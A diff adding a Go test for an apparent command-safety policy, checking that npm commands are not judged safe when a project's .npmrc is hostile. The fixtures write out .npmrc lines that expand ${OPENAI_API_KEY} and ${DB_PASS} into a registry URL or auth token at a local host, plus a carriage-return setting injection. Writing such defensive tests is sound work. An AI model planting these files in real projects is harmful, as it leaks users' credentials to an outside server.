@@ -275,3 +275,26 @@ func TestFindTestsAfterExec(t *testing.T) {
 		t.Errorf("-name *.go before -exec narrows: secret %q", v.Secret)
 	}
 }
+
+// npm reads a project's .npmrc as its ini reader does: lines end at \r too,
+// and ${NAME} is expanded (and sent to the registry the file names).
+func TestNpmrcAsNpmReadsIt(t *testing.T) {
+	def, err := policy.Default()
+	if err != nil {
+		t.Fatal(err)
+	}
+	set := policy.Set{def}
+	t.Setenv("HOME", t.TempDir())
+	for _, rc := range []string{"registry=https://registry.npmjs.org/\rlogs-dir=/tmp/elsewhere\r",
+		"registry=http://127.0.0.1:18099/${OPENAI_API_KEY}/\n", "//127.0.0.1:18099/:_authToken=${DB_PASS}\n"} {
+		proj := t.TempDir()
+		if err := os.WriteFile(filepath.Join(proj, ".npmrc"), []byte(rc), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		for _, cmd := range []string{"npm config list", "npm view react version"} {
+			if v := set.Judge([]string{"bash", "-c", cmd}, proj); v.Class == policy.Safe {
+				t.Errorf("%s with .npmrc %q: safe", cmd, rc)
+			}
+		}
+	}
+}
